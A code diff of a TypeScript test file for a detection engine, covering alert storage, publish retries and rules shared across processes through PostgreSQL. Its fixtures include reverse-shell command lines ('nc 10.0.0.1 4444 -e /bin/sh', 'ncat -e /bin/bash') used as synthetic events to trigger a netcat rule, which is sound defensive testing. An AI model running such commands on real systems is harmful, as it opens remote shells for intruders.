@@ -1,7 +1,9 @@
 // Detection of the scale-out roles in one process: the worker's stage raises the built-in netcat rule's
 // alert, stores it and publishes it with its id as message id; a replayed batch stores nothing new but
 // publishes the same ids again (JetStream drops the repeats); a failed publish fails the stage (so the
-// batch is redelivered); the API's rule service lists the directory rules and refuses every change.
+// batch is redelivered). Shared rules: two processes' rule services on one PostgreSQL database, notices on
+// an in-memory broadcast: an upload through one is run by the other's stage, a switch stops it, a change
+// whose notice was lost is caught up by the next check, and concurrent changes of both end in one state.
 
 import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
@@ -11,12 +13,17 @@ import { join } from 'node:path';
 import { pino } from 'pino';
 import { buildEvent, createBuildContext } from '../../src/agent/events.ts';
 import { ProcessCache } from '../../src/agent/process-cache.ts';
-import type { Bus, BusMessage } from '../../src/bus/types.ts';
-import { alertId } from '../../src/detect/alerts.ts';
+import type { Bus, BusMessage, Subscription } from '../../src/bus/types.ts';
+import { alertId, type Alert } from '../../src/detect/alerts.ts';
+import { RuleService } from '../../src/detect/rule-service.ts';
+import type { DetectionStage } from '../../src/detect/stage.ts';
 import type { VigilEvent } from '../../src/schema/event.ts';
-import { apiRules, storeAndPublishSink, workerDetection } from '../../src/server/role-detection.ts';
+import { loadRules, ruleRegistry } from '../../src/server/detection.ts';
+import { apiRules, sharedRules, storeAndPublishSink, workerDetection, type RuleBus } from '../../src/server/role-detection.ts';
 import { SqliteAlertStore } from '../../src/stores/alerts/sqlite.ts';
 import type { StoredAlert } from '../../src/stores/alerts/types.ts';
+import { SqliteRuleStateStore } from '../../src/stores/rules/sqlite.ts';
+import { createTempDatabase } from '../support/postgres.ts';
 
 const NETCAT_RULE = '5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001';
 const log = pino({ level: 'silent' });
@@ -46,6 +53,11 @@ function processStarts(executable: string, args: string[], count: number): Vigil
   }, ctx));
 }
 
+/** The built-in rules into `stage` (state in a throw-away SQLite file). */
+function builtinRules(stage: DetectionStage): void {
+  loadRules(new RuleService(ruleRegistry({}), new SqliteRuleStateStore(join(dir, `rules-${Math.random()}.db`)), stage), { log, ruleDirs: [] });
+}
+
 function recordingBus(fail = false): Bus<StoredAlert> & { published: BusMessage<StoredAlert>[] } {
   const published: BusMessage<StoredAlert>[] = [];
   return {
@@ -61,7 +73,8 @@ function recordingBus(fail = false): Bus<StoredAlert> & { published: BusMessage<
 
 test('worker stage: stores and publishes each alert; a replayed batch adds nothing to the store and republishes the same ids', async () => {
   const bus = recordingBus();
-  const { stage } = workerDetection(storeAndPublishSink(store, bus), { log, ruleDirs: [] });
+  const { stage, detection } = workerDetection(storeAndPublishSink(store, bus));
+  builtinRules(detection);
   assert.equal(stage.required, true);
   const shells = processStarts('/usr/bin/nc', ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'], 2);
   const batch = [...processStarts('/usr/bin/ls', ['ls', '-l'], 3), ...shells];
@@ -78,17 +91,89 @@ test('worker stage: stores and publishes each alert; a replayed batch adds nothi
 });
 
 test('worker stage: a failed publish fails the stage, so the batch is redelivered', async () => {
-  const { stage } = workerDetection(storeAndPublishSink(store, recordingBus(true)), { log, ruleDirs: [] });
+  const { stage, detection } = workerDetection(storeAndPublishSink(store, recordingBus(true)));
+  builtinRules(detection);
   await assert.rejects(stage.process(processStarts('/usr/bin/ncat', ['ncat', '-e', '/bin/bash', 'x', '1'], 1)), /bus unavailable/);
 });
 
-test('API rules: the directory rules, read-only', () => {
-  const rules = apiRules({ log, ruleDirs: [] });
-  assert.ok(rules.list().some((r) => r.id === NETCAT_RULE));
-  const refused = rules.add('title: x');
-  assert.equal(refused.ok, false);
-  assert.equal(!refused.ok && refused.status, 'read_only');
-  assert.equal(rules.delete(NETCAT_RULE).ok, false);
-  assert.throws(() => rules.setEnabled(NETCAT_RULE, false), (err: Error & { statusCode?: number }) => err.statusCode === 409);
-  assert.equal(rules.list().find((r) => r.id === NETCAT_RULE)?.enabled, true);
+/**
+ * An in-memory broadcast of rule notices: publish returns at once, as on NATS (the handlers run after);
+ * `settled()` waits for the handlers of what was published; `drop` loses the next notice (a missed message).
+ */
+function broadcast(): RuleBus & { drop: boolean; settled(): Promise<void> } {
+  const followers = new Set<(m: BusMessage<unknown>) => Promise<void>>();
+  let pending: Promise<unknown>[] = [];
+  return {
+    drop: false,
+    async publish(m) {
+      if (this.drop) { this.drop = false; return; }
+      for (const f of followers) pending.push(f(m));
+    },
+    async settled() {
+      while (pending.length) await Promise.all(pending.splice(0));
+    },
+    async follow(_filter, handler): Promise<Subscription> {
+      followers.add(handler);
+      return { stop: async () => { followers.delete(handler); } };
+    },
+  };
+}
+
+const CUSTOM = '7d1f3c2a-1111-4c4c-8a8a-00000000c0de';
+const customRule = (id = CUSTOM, image = '/usr/bin/socat') => `title: custom ${image}
+id: ${id}
+level: high
+logsource: { category: process_creation, product: linux }
+detection:
+  sel: { Image: '${image}' }
+  condition: sel
+`;
+
+test('shared rules: an upload through one process runs in the other; a switch stops it; a lost notice is caught up', async () => {
+  const db = await createTempDatabase('rules');
+  const bus = broadcast();
+  const raised: Alert[] = [];
+  const { detection } = workerDetection({ write: async (a) => { raised.push(...a); } });
+  const worker = await sharedRules(detection, { log, ruleDirs: [], postgres: db.url, bus, role: 'worker' });
+  const api = await apiRules({ log, ruleDirs: [], postgres: db.url, bus });
+  try {
+    const socat = () => processStarts('/usr/bin/socat', ['socat', 'x'], 1);
+    assert.ok(api.rules.list().some((r) => r.id === NETCAT_RULE), 'directory rules as before');
+    const added = await api.rules.add(customRule());
+    assert.deepEqual(added, { ok: true, ids: [CUSTOM] });
+    await bus.settled();
+    assert.equal(worker.rules.get(CUSTOM)?.info.origin, 'uploaded', 'the worker runs the upload');
+    await detection.process(socat());
+    assert.deepEqual(raised.map((a) => a.rule.id), [CUSTOM]);
+
+    assert.equal(await api.rules.setEnabled(CUSTOM, false), true);
+    await bus.settled();
+    await detection.process(socat());
+    assert.equal(raised.length, 1, 'switched off: no new alert');
+
+    bus.drop = true; // the notice of the next change is lost
+    assert.equal(await api.rules.setEnabled(CUSTOM, true), true);
+    assert.equal(worker.rules.get(CUSTOM)?.info.enabled, false, 'not seen yet');
+    await worker.rules.catchUp(); // the periodic check (or the next notice)
+    assert.equal(worker.rules.get(CUSTOM)?.info.enabled, true);
+
+    // A second API process starting now loads the state; then both change it concurrently.
+    const api2 = await apiRules({ log, ruleDirs: [], postgres: db.url, bus });
+    try {
+      assert.equal(api2.rules.get(CUSTOM)?.info.enabled, true);
+      const other = '7d1f3c2a-2222-4c4c-8a8a-00000000c0de';
+      const [a, b] = await Promise.all([api.rules.add(customRule(other, '/usr/bin/ncat2')), api2.rules.delete(CUSTOM)]);
+      assert.ok(a.ok && b.ok);
+      await bus.settled();
+      for (const p of [api, api2, worker]) {
+        assert.deepEqual(p.rules.list().filter((r) => r.origin === 'uploaded').map((r) => r.id), [other], 'every process ends in the stored state');
+      }
+    } finally {
+      await api2.stop();
+    }
+  } finally {
+    await api.stop();
+    await worker.stop();
+    await db.drop();
+  }
 });
